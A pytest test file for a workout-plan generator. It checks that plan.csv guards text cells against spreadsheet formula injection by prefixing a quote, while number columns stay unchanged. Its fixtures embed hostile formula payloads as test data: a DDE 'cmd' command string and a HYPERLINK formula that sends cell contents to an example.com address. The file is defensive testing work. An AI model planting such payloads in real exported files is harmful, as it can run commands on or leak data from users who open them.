"""plan.csv and spreadsheet formulas (CSV injection): a spec is untrusted, and a text cell
that starts with = + - @ (or their full-width forms), a tab or a CR would run as a formula
in the spreadsheet a coach opens plan.csv in. Such cells get a leading single quote, as
OWASP advises; number columns are left as they are, whatever their first character.

The specs and logs are written to disk and built as a user builds them; each hostile
build is held to a twin whose texts start with none of them, so every cell but the
guarded ones must be the same, numbers included.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from fractions import Fraction
from pathlib import Path

import pytest

from generator.build.build import build
from generator.build.config import Settings
from generator.errors import LiftplanError
from generator.pipeline import plan_spec
from generator.plan.values import Plan, PlannedExercise, PlannedSession, PlannedWeek
from generator.publish.data import CSV_COLUMNS, CSV_NUMBERS, plan_csv

# The characters a spreadsheet starts a formula on, with the full-width forms some fold.
PRINTABLE = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
CONTROL = ["\t", "\r"]
ALL = PRINTABLE + CONTROL
# The texts a spec gives that plan.csv carries, as the cells they become.
GUARDED = ("phase", "name")
ID = "formulas"


def spec_text(start: str) -> str:
    """A spec whose free texts (title, notes, phase, exercise name) all begin with
    `start`: loads, percentages, warm-ups with plates, RPE and rest fill the number
    columns."""
    q = json.dumps  # a JSON string is a YAML double-quoted scalar, escapes and all
    return f"""\
id: {ID}
title: {q(start + "SUM(1+1) plan")}
notes: {q(start + 'cmd|" /C calc"!A0')}
start: "2027-01-04"
bodyweight: 70
schedule: {{days: [mon, thu]}}
equipment:
  barbell: {{kind: barbell, bar: 20, plates: [20, 10, 5, 2.5, 1.25]}}
maxes:
  formula_lift: {{one_rm: 100}}
exercises:
  formula_lift:
    name: {q(start + 'HYPERLINK("http://example.com/?"&A1,"x")')}
    equipment: barbell
    notes: {q(start + "1+2")}
  hip_thrust: {{name: {q(start + "Hip thrust")}}}
defaults: {{warmup: auto}}
phases:
  - name: {q(start + "2+3 block")}
    weeks: 2
    goal: strength
    notes: {q(start + "A1 notes")}
    sessions:
      A:
        - {{exercise: formula_lift, sets: 3, reps: 5, load: 75%, tempo: 3-1-X-0}}
      B:
        - {{exercise: hip_thrust, sets: 2, reps: 8, rpe: 8}}
"""


def log_text(start: str) -> str:
    """A log of the first session, so the done columns hold numbers too."""
    return f"""\
program: {ID}
sessions:
  - date: "2027-01-04"
    note: {json.dumps(start + "SUM(A1:A9)")}
    done:
      formula_lift: 5@75 5@75@8 4@75@9.5
"""


def built_csv(folder: Path, start: str) -> list[dict[str, str]]:
    """plan.csv of the spec and log for `start`, built by the real build into `folder`,
    read back with the csv module."""
    folder.mkdir()
    (folder / f"{ID}.yaml").write_text(spec_text(start), encoding="utf-8")
    (folder / f"{ID}.log.yaml").write_text(log_text(start), encoding="utf-8")
    build(Settings((str(folder / f"{ID}.yaml"),), str(folder / "out"), ("csv",)))
    text = (folder / "out" / ID / "plan.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, str]]:
    """The twin: the same plan with texts that start with a letter."""
    return built_csv(tmp_path_factory.mktemp("plain") / "spec", "")


def test_the_twin_fills_every_kind_of_number_column(plain: list[dict[str, str]]) -> None:
    """Without numbers in these columns the comparison below would hold nothing."""
    numbers = ("week", "set", "reps", "load", "percent", "rpe", "rest", "done_reps", "done_rpe")
    for column in (*numbers, "done_load", "tempo", "plates"):
        assert any(row[column] for row in plain), column
    assert {row["kind"] for row in plain} >= {"warmup", "work"}
    assert all(not row[column].startswith("'") for row in plain for column in GUARDED)


@pytest.mark.parametrize("start", PRINTABLE, ids=ascii)
def test_a_text_that_would_start_a_formula_is_quoted_and_nothing_else_changes(
    start: str, tmp_path: Path, plain: list[dict[str, str]]
) -> None:
    hostile = built_csv(tmp_path / "spec", start)
    assert_guarded(hostile, plain, start)


@pytest.mark.parametrize("start", CONTROL, ids=ascii)
def test_a_text_starting_with_a_tab_or_cr_is_quoted_or_refused(
    start: str, tmp_path: Path, plain: list[dict[str, str]]
) -> None:
    """A tab or CR leading a name may be refused at validation (control characters);
    then nothing is written. If it is accepted, its cell must be guarded."""
    hostile = built_or_refused(tmp_path / "spec", start)
    if isinstance(hostile, LiftplanError):
        text = spec_text(start).splitlines()
        escaped = json.dumps(start)[1:-1]
        assert all(escaped in text[d.line - 1] for d in hostile.diagnostics), hostile
        assert not (tmp_path / "spec" / "out" / ID / "plan.csv").exists()
    else:
        assert_guarded(hostile, plain, start.replace("\r", "\n"))


def built_or_refused(folder: Path, start: str) -> list[dict[str, str]] | LiftplanError:
    """plan.csv's rows as built_csv reads them, or the build's refusal."""
    try:
        return built_csv(folder, start)
    except LiftplanError as error:
        return error


def assert_guarded(hostile: list[dict[str, str]], plain: list[dict[str, str]], start: str) -> None:
    """Each guarded cell is a quote, `start`, then the twin's text; every other cell is
    the twin's, byte for byte."""
    assert len(hostile) == len(plain)
    for got, twin in zip(hostile, plain, strict=True):
        for column in CSV_COLUMNS:
            expected = "'" + start + twin[column] if column in GUARDED else twin[column]
            assert got[column] == expected, (column, got[column])


def test_every_text_column_is_guarded_and_no_number_column_is() -> None:
    """The columns plan.csv writes as numbers: only these escape the guard."""
    assert set(CSV_COLUMNS) > CSV_NUMBERS
    assert set(CSV_COLUMNS) - CSV_NUMBERS == {
        "date",
        "phase",
        "session",
        "day_type",
        "exercise",
        "name",
        "superset",
        "kind",
        "unit",
        "percent_of",
        "tempo",
        "plates",
    }


def renamed(plan: Plan, start: str, load: Fraction) -> Plan:
    """The plan with `start` before every phase and exercise name, and every set at
    `load`: no valid spec plans a negative load, so the plan is changed as a value."""

    def exercise(item: PlannedExercise) -> PlannedExercise:
        sets = tuple(replace(planned, load=load) for planned in item.sets)
        return replace(item, name=start + item.name, sets=sets)

    def session(item: PlannedSession) -> PlannedSession:
        return replace(item, exercises=tuple(exercise(e) for e in item.exercises))

    def week(item: PlannedWeek) -> PlannedWeek:
        return replace(
            item, phase=start + item.phase, sessions=tuple(session(s) for s in item.sessions)
        )

    return replace(plan, weeks=tuple(week(w) for w in plan.weeks))


@pytest.mark.parametrize("start", ALL, ids=ascii)
def test_the_writer_guards_text_by_column_and_leaves_a_negative_number(
    start: str, tmp_path: Path
) -> None:
    """Whatever validation lets through, the writer guards the text columns, and a
    number column keeps -2.5 as -2.5 though it starts with a minus."""
    folder = tmp_path / "spec"
    folder.mkdir()
    (folder / f"{ID}.yaml").write_text(spec_text(""), encoding="utf-8")
    plan = plan_spec(str(folder / f"{ID}.yaml")).plan
    hostile, twin = (
        list(csv.DictReader(io.StringIO(plan_csv(renamed(plan, text, Fraction(-5, 2))))))
        for text in (start, "")
    )
    assert twin
    assert all(row["load"] == "-2.5" for row in twin)
    assert_guarded(hostile, twin, start.replace("\r", "\n"))
